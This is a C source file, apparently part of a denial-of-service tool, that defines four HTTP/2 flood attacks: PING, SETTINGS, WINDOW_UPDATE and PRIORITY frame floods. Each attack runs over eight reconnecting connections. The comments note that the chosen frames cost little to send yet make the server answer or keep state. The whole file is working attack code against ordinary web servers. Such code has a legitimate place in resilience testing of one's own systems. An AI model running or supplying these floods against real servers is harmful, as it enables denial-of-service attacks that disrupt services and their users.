/* SPDX-License-Identifier: Apache-2.0 */
/* Frames that carry nothing and cost little to send: some of them want an answer. */
#include "attack.h"

static bool turn_ping(client *c)
{
    while (c->out_size < FLOOD) {
        put_frame(c, PING, 0, 0, "12345678", 8);
    }
    return true;
}

static bool turn_settings(client *c)
{
    while (c->out_size < FLOOD) {
        put_frame(c, SETTINGS, 0, 0, NULL, 0);
    }
    return true;
}

static bool turn_window_update(client *c)
{
    while (c->out_size < FLOOD) {
        put_number_frame(c, WINDOW_UPDATE, 0, 1);
    }
    return true;
}

/* Streams that are idle, each with a weight of its own: state for a server that keeps it. */
static bool turn_priority(client *c)
{
    while (c->out_size < FLOOD) {
        const uint8_t on_nobody[5] = {0, 0, 0, 0, (uint8_t)c->next_stream};
        put_frame(c, PRIORITY, 0, c->next_stream, on_nobody, sizeof(on_nobody));
        c->next_stream = (c->next_stream + 2) & 0x7fffffff;
    }
    return true;
}

const attack ping_flood = {
    .name = "ping-flood",
    .help = "PING",
    .carriage = CARRY_H2,
    .connections = 8,
    .reconnects = true,
    .turn = turn_ping,
};

const attack settings_flood = {
    .name = "settings-flood",
    .help = "SETTINGS",
    .carriage = CARRY_H2,
    .connections = 8,
    .reconnects = true,
    .turn = turn_settings,
};

const attack window_update_flood = {
    .name = "window-update-flood",
    .help = "WINDOW_UPDATE",
    .carriage = CARRY_H2,
    .connections = 8,
    .reconnects = true,
    .turn = turn_window_update,
};

const attack priority_flood = {
    .name = "priority-flood",
    .help = "PRIORITY",
    .carriage = CARRY_H2,
    .connections = 8,
    .reconnects = true,
    .turn = turn_priority,
};
